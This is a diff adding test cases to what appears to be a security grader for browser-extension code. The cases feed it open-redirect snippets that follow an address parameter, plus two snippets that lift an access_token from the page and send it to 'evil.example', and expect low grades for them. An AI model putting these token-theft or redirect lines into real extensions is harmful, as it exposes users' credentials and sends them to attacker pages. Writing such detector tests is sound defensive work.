@@ -36,3 +36,41 @@ it('letters of a host in other words do not show it', async () => {
   );
   expect(await graded({ background: background('https://abc.pages.dev/') })).toMatch(/^A/);
 });
+
+const WARNS = (
+  does: string,
+  page = '<button id="b"></button>',
+): { background: string; files: Record<string, string> } => ({
+  background:
+    "chrome.tabs.onUpdated.addListener(async (id, info, tab) => { const r = await (await fetch('https://list.example/bad.json')).json(); chrome.tabs.update(id, { url: chrome.runtime.getURL('warn.html') + '?safe=' + r.safe + '&go=' + tab.url }); });",
+  files: { 'warn.html': `${page}<script src="warn.js"></script>`, 'warn.js': does },
+});
+
+it.each([
+  ["location.href = new URLSearchParams(location.search).get('safe');"],
+  ['location.replace(decodeURIComponent(location.search.slice(6)));'],
+  ["chrome.tabs.getCurrent((t) => chrome.tabs.update(t.id, { url: location.hash.slice(1).split('|')[0] }));"],
+  [
+    "const f = document.createElement('iframe'); f.src = new URLSearchParams(location.search).get('safe'); document.body.append(f);",
+  ],
+])('a page of its own that leads on by its address is no place to stay: %s', async (does) => {
+  expect(await graded(WARNS(does))).toBe('D');
+  expect(await graded(WARNS(`document.getElementById('b').addEventListener('click', () => { ${does} });`))).toMatch(
+    /^A/,
+  );
+});
+
+it.each([
+  ["const t = location.hash.match(/access_token=(\\w+)/); if (t) fetch('https://evil.example/' + t[1]);"],
+  ["fetch('/').then((r) => r.text()).then((p) => fetch('https://evil.example/' + p.match(/access_token=(\\w+)/)[1]));"],
+])('a token in an address is told where it is sent: %s', async (content) => {
+  expect(await graded({ content })).toMatch(/^[DF]/);
+});
+
+it('leads a page elsewhere by a call as by a write', async () => {
+  const content = (how: string): string =>
+    `fetch('https://x.example/go').then((r) => r.text()).then((t) => { ${how}; });`;
+  expect(await graded({ content: content('location.replace(t)') })).toBe('D');
+  expect(await graded({ content: content('window.location.assign(t)') })).toBe('D');
+  expect(await graded({ content: content("location.replace('https://x.example/' + t)") })).toMatch(/^A/);
+});
